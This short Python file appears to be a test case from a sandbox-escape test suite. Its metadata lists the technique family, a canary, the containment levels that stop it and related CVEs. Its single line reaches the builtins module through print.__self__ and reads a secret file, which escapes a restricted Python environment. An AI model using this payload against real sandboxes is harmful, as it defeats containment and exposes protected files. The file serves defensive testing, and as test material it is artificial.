"""Reach the module of builtins from a builtin function.

family: classes
canary: secret
stops: full, container
root: no
related: CVE-2024-27444, CVE-2026-47392
"""

print(print.__self__.open(SECRET_FILE).read())
